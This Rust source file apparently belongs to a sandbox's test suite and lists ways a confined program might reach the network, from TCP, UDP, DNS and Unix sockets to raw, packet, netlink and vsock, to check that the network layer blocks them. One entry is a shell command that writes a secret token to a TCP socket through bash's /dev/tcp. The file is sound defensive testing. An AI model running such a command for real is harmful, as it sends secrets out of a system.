//! Ways to be heard outside.
use tunesmith_sandbox::Layer::Network;

use super::attack::{Attack, got_through, heard, program, shell, told_secret};

pub fn all() -> Vec<Attack> {
    let to = |name, service| program(name, Network, heard).host(service);
    vec![
        to("tcp", "tcp"),
        to("tcp6", "tcp").kernel("there is no IPv6 on the loopback interface"),
        shell("connect by the shell", Network, "bash -c 'echo $TOKEN > /dev/tcp/127.0.0.1/$HOST_TCP'", heard)
            .host("tcp"),
        to("tcp-fast-open", "tcp").kernel("fast open is switched off"),
        to("multipath-tcp", "tcp").kernel("the kernel has no multipath TCP"),
        to("udp", "udp"),
        to("udp-messages", "udp"),
        to("dns", "udp"),
        to("unix-stream", "unix"),
        to("unix-datagram", "unix"),
        to("unix-packets", "unix"),
        to("unix-abstract", "unix"),
        to("unix-link", "unix"),
        to("unix-path-descriptor", "unix"),
        to("unix-pair", "unix"),
        program("handed-over", Network, told_secret).host("giver"),
        to("listen-tcp", "caller"),
        to("listen-abstract", "caller"),
        program("raw", Network, got_through).root("raw sockets need a capability"),
        program("packet", Network, told_secret).host("chatter").root("packet sockets need a capability"),
        program("netlink", Network, got_through),
        program("vsock", Network, got_through).kernel("the machine has no sockets to its host"),
    ]
}
